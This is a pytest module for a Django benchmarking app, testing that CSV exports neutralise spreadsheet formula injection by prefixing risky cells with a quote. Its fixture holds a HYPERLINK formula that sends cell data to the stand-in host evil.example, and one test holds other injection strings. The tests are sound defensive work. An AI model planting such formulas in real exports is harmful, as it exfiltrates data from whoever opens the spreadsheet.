"""Every CSV the site writes shows a cell from the engine as text, never as a formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client

from bench import kinds, services
from bench.kinds.speed import SpeedConfig
from bench.models import BenchJob
from labapp.ops import scripted

ROOT = Path(__file__).resolve().parents[2]
SMALL = SpeedConfig(repeats=1, shapes=((20, 4),), check=(40, 6), seed=5)
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")'


@pytest.fixture
def formula_engine(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """A scripted engine whose every answer is a spreadsheet formula."""
    monkeypatch.setattr(kinds, "config_for", lambda kind, raw, **options: SMALL)
    with scripted.serve(scripted.Script(pieces=[HYPERLINK], delay_s=0.001)) as url:
        yield url


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_a_job_export_quotes_a_generated_text_that_is_a_formula(formula_engine: str) -> None:
    owner = User.objects.create(username="exporter")
    job = BenchJob.objects.create(owner=owner, kind="speed", config={"repeats": 1}, engine_url=formula_engine)
    assert services.job_execute(job_id=job.pk).status == BenchJob.Status.DONE
    client = Client()
    client.force_login(owner)
    rows = _rows(client.get(f"/bench/{job.pk}/export.csv").content.decode())
    assert len(rows) == SMALL.total_requests
    assert {row["generated_text"] for row in rows} == {"'" + HYPERLINK}
    assert {row["success"] for row in rows} == {"True"}  # flags and numbers are written as before
    assert all(float(row["ttft_ms"]) >= 0 for row in rows)


@pytest.mark.django_db
def test_a_job_export_quotes_errors_finish_reasons_and_cell_names_from_outside(client: Client) -> None:
    owner = User.objects.create(username="failing")
    request = {"success": False, "error": "-2+3", "finish_reason": "@SUM(A1)", "generated_text": "\tx"}
    results = {"cells": [{"cell": "+cell", "requests": [request]}]}
    job = BenchJob.objects.create(owner=owner, kind="no-such-kind", engine_url="http://x", results=results)
    client.force_login(owner)
    [row] = _rows(client.get(f"/bench/{job.pk}/export.csv").content.decode())
    assert (row["cell"], row["error"], row["finish_reason"], row["generated_text"]) == (
        "'+cell", "'-2+3", "'@SUM(A1)", "'\tx"
    )  # fmt: skip
    assert row["success"] == "False"


def test_the_bench_commands_csv_quotes_them_too(formula_engine: str, settings: Any, tmp_path: Path) -> None:
    settings.VLLM_BASE_URL = formula_engine
    settings.VLLM_MODEL = ""
    call_command("bench", "speed", repeats=1, csv=tmp_path / "r.csv", stdout=io.StringIO())
    rows = _rows((tmp_path / "r.csv").read_text())
    assert rows and {row["generated_text"] for row in rows} == {"'" + HYPERLINK}


def test_every_csv_writer_puts_its_cells_through_csv_safe() -> None:
    writers = [
        path
        for app in ("labapp", "rag", "bench")
        for path in (ROOT / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers  # the gradebook and the requests CSV
    assert [path for path in writers if "csv_safe(" not in path.read_text()] == []
